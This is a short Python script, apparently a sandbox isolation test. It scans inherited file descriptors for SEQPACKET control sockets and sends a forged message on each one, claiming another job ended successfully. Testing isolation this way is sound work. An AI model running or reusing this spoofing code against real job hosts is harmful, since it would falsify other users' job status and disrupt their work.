# tries: to speak on every socket it has as if it were the warm process, so that the host takes another's job for ended.
# gets nothing if: its neighbours end as they would.
# %%
import os
import socket

lie = b'{"job": "1", "event": "ended", "ended": {"code": 0}}'
for number in range(3, 5000):
    try:
        found = socket.socket(fileno=os.dup(number))
        if found.type == socket.SOCK_SEQPACKET:
            print("GOT a control socket", number)
            found.send(lie)
        found.close()
    except OSError:
        continue
